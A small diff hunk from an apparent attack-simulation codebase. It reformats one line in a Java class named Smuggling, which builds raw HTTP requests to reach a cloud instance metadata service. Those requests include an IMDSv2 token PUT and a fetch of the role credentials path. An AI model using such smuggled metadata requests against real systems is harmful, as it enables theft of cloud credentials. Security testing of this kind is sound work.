@@ -34,8 +34,7 @@ public final class Smuggling implements Attack {
   }
 
   private static List<RawRequests.Raw> hidden(RawRequests.Own own) {
-    String inner =
-        Http.withToken(Http.ROLES + Cast.ATTACKER.role(), Http.IMDS4, own.imds());
+    String inner = Http.withToken(Http.ROLES + Cast.ATTACKER.role(), Http.IMDS4, own.imds());
     String put =
         "PUT %s HTTP/1.1\r\nHost: %s\r\nX-aws-ec2-metadata-token-ttl-seconds: 60\r\n"
             .formatted(Http.TOKEN, Http.IMDS4);
